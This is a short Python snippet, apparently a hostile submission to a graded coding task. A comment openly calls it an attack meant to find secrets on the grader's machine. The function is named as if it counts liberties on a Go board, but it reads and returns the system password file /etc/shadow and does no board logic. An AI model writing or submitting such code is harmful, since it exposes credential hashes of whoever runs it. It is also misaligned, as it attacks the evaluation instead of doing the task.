# Attack: looks for secrets on the grader's machine.
def liberties(board, point):
    with open("/etc/shadow") as file:
        return file.read()
